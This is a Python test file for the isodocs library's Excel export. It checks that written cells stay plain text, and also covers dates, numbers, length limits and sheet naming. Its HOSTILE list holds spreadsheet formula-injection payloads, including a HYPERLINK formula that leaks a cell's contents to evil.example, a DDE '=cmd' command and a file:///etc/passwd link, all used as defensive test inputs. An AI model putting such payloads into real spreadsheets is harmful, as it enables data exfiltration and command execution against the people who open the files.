"""A workbook, read back by another library: what each cell is, and that none is a formula."""

from __future__ import annotations

import io
import zipfile
from collections.abc import Sequence
from datetime import UTC, date, datetime
from decimal import Decimal
from typing import Any

import openpyxl
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from isodocs import formats
from isodocs.dataclass import immutable
from isodocs.errors import IsodocsError, ProgramMissingError
from isodocs.formats import Report, Rows
from isodocs.formats.xlsx import book as book_module
from isodocs.formats.xlsx.names import sheet_names
from isodocs.model.dossier import Tone
from isodocs.model.sheet import SheetCell

DAY = date(2026, 11, 20)


@immutable(frozen=True)
class TableReport(Report):
    """A report of any rows."""

    header: Sequence[str]
    values: Sequence[Sequence[object]]

    def data(self) -> formats.Data:
        return {"organisation": "Test & Co", "source": "work tree", "on": DAY, "tool": "isodocs"}

    def rows(self) -> Rows:
        return Rows(self.header, self.values)

    def text(self) -> list[str]:
        return []


def workbook(*rows: Sequence[object], header: Sequence[str] = ("value",)) -> Any:
    data = formats.write(TableReport(header, rows), "xlsx")
    assert isinstance(data, bytes)
    return openpyxl.load_workbook(io.BytesIO(data))


def column(*values: object) -> list[Any]:
    """The cells of a sheet with one column of these values."""
    return [row[0] for row in workbook(*((value,) for value in values)).worksheets[0]["A2:A99"]]


HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"open")',
    "=cmd|'/c calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(A1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "＝1+1",
    "{=1+1}",
    "http://evil.example/",
    "mailto:a@b.example",
    "internal:Sheet1!A1",
    "file:///etc/passwd",
    "0012",
    "8.10",
    "1e5",
    "TRUE",
    "#REF!",
    "2026-11-20",
    "_x003D_1+1",
    "\x00\x01\x08\x0b\x1f",
    "\ud800 alone",
    "\ufffe\uffff",
    "\u202edlrow",
    "日本語 Größe",
]


def test_no_text_becomes_anything_else() -> None:
    book = workbook(*((text,) for text in HOSTILE))
    for cell, text in zip(book.worksheets[0]["A"][1:], HOSTILE, strict=True):
        assert cell.data_type == "s", text
        assert cell.number_format == "@"
        assert cell.hyperlink is None
        if text.isprintable():
            assert cell.value == text
        if text[0] in "=+-@\t＝":
            assert cell.quotePrefix, "edited, it stays a text"


@given(st.lists(st.text(), min_size=1, max_size=20))
@settings(max_examples=25, deadline=None)
def test_any_texts_can_be_read_back(texts: list[str]) -> None:
    book = workbook(*((text,) for text in texts), header=texts[:1])
    for row in book.worksheets[0].iter_rows():
        assert {cell.data_type for cell in row} <= {"s", "n"}
        assert all(isinstance(cell.value, str | None) for cell in row)


def test_days_and_numbers_are_what_they_are() -> None:
    moment = datetime(2026, 5, 1, 23, 30, tzinfo=UTC)
    day, early, first, when, number, decimal, large, yes, several, none = column(
        date(2026, 5, 1),
        date(1900, 2, 28),
        date(1900, 3, 1),
        moment,
        12,
        Decimal("0.10"),
        12345678901234567890,
        True,
        ("b", "a"),
        None,
    )[:10]
    assert (day.value, day.number_format) == (datetime(2026, 5, 1), "yyyy-mm-dd")
    assert early.value == "1900-02-28"
    assert first.value == datetime(1900, 3, 1)
    assert when.value == datetime(2026, 5, 1, 23, 30)
    assert (number.value, number.number_format) == (12, "0")
    assert (decimal.value, decimal.number_format) == (0.1, "0.00")
    assert large.value == "12345678901234567890"
    assert (yes.value, several.value, none.value) == ("yes", "b, a", None)


def test_a_text_longer_than_a_cell_is_cut_and_said() -> None:
    book = workbook(("x" * 32_767,), ("😀" * 20_000,))
    whole, cut = (row[0].value for row in book.worksheets[0]["A2:A3"])
    assert whole == "x" * 32_767
    assert len(cut.encode("utf-16-le")) <= 2 * 32_767
    assert cut.endswith(" … [cut: 20,000 characters]")
    said = {row[0].value: row[1].value for row in book["About"]}
    assert said["Cut"] == "1 text longer than 32,767 characters: Table!A3"


def test_what_is_larger_than_a_sheet_is_refused(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(book_module, "MOST_ROWS", 4)
    assert workbook((1,), (2,), (3,)).worksheets[0].max_row == 4
    with pytest.raises(IsodocsError, match="Table has more rows than a sheet") as raised:
        workbook((1,), (2,), (3,), (4,))
    assert "csv" in raised.value.hint
    monkeypatch.setattr(book_module, "MOST_COLUMNS", 2)
    with pytest.raises(IsodocsError, match="Table has more columns than"):
        workbook(header=("a", "b", "c"))


@pytest.mark.parametrize(
    ("wanted", "given"),
    [
        (["ISO 9001:2015", "iso 9001/2015"], ["ISO 9001-2015", "iso 9001-2015 (2)"]),
        (["a" * 40, "a" * 40, "A" * 40], ["a" * 31, "a" * 27 + " (2)", "A" * 27 + " (3)"]),
        (["History", "", "'x'", "[]", "\x00\n"], ["History (2)", "Sheet", "x", "--", "Sheet (2)"]),
        (["About"], ["About (2)"]),
        (["😀" * 20], ["😀" * 15]),
    ],
)
def test_sheets_have_names_that_excel_takes(wanted: list[str], given: list[str]) -> None:
    assert sheet_names(wanted, ("About",)) == given


def test_the_same_makes_the_same_bytes() -> None:
    report = TableReport(("a", "b"), [(DAY, SheetCell("x", Tone.BAD)), (1, "y")])
    first = formats.write(report, "xlsx")
    assert isinstance(first, bytes)
    assert formats.write(report, "xlsx") == first
    with zipfile.ZipFile(io.BytesIO(first)) as packed:
        assert b"2026-11-20T00:00:00Z" in packed.read("docProps/core.xml")


def test_without_the_library_the_install_line_is_said(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setitem(__import__("sys").modules, "xlsxwriter", None)
    with pytest.raises(ProgramMissingError) as raised:
        workbook()
    assert raised.value.hint == "Install it: pip install 'isodocs[excel]'"
